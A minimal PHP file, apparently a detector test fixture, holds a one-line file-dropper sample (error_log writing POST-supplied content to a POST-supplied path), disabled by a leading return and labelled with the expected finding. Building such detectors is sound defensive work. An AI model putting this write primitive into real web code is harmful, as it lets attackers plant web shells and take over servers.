<?php return; // want: suspicious dropper php.write.request
error_log($_POST['what'], 3, $_POST['where']);
